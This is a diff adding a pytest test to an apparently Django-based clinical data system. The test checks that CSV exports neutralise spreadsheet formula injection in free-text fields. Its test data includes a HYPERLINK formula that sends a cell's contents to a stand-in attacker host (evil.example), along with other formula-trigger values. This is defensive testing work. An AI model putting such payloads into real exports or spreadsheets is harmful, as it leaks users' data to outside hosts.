@@ -214,3 +214,17 @@ def test_lock_and_background_export_from_the_page(client, world, django_capture_
     assert DatasetLock.current() is not None  # a reason is required
     client.post(url, {"action": "unlock", "reason": "Data correction"})
     assert DatasetLock.current() is None
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_formulas_in_free_text(world, tmp_path):
+    patient = scheduled_patient(world.site_a)
+    crf.crf_save(
+        model=FORMS["con_med"],
+        visit=patient.visits.get(code="LOG"),
+        data={"drug": '=HYPERLINK("http://evil.example/?"&A1,"click")', "indication": "+1+1", "dose": "@SUM(1)"},
+        actor=world.nurse_a,
+    )
+    export_dataset(formats=["csv"], out=tmp_path, allow_unlocked=True)
+    row = next(csv.DictReader(io.StringIO((tmp_path / "con_med.csv").read_text())))
+    assert row["drug"].startswith("'=HYPERLINK") and row["indication"] == "'+1+1" and row["dose"] == "'@SUM(1)"
